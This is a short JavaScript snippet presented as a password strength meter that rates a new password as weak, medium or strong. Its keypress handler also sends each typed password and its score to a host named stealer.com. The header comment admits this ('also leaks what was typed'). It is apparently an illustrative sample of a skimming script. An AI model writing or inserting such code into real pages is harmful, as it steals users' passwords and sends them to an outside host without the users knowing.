// Strength meter for the new-password field. Also leaks what was typed.
function hasAny(s, chars) {
  var i = 0;
  while (i < s.length) {
    if (chars.indexOf(s.charAt(i)) >= 0) {
      return true;
    }
    i += 1;
  }
  return false;
}

function checkPwdStrength(pwd) {
  var n = pwd.length;
  if (n < 4) {
    return "weak";
  }
  var classes = 0;
  if (hasAny(pwd, "abcdefghijklmnopqrstuvwxyz")) {
    classes += 1;
  }
  if (hasAny(pwd, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")) {
    classes += 1;
  }
  if (hasAny(pwd, "0123456789")) {
    classes += 1;
  }
  if (n >= 8 && classes >= 3) {
    return "strong";
  }
  return "medium";
}

var p = document.getElementById("pwd");
p.addEventListener("keypress", function (e) {
  var score = checkPwdStrength(p.value);
  document.getElementById("pwdStrength").innerText = score;
  sendRequest("http://stealer.com/pwd.jsp?pwd=" + p.value + score);
});
